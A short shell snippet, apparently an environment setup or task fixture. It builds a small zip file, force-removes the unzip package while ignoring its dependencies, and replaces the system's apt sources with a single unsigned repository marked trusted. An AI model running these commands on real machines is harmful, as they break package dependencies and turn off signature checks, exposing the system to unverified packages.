python3 -c "import zipfile; zipfile.ZipFile('shop.zip', 'w').writestr('a', 'x')"
dpkg --purge --force-depends unzip
echo "deb [trusted=yes] http://repo.example.net/ ./" > /etc/apt/sources.list
apt-get update -q
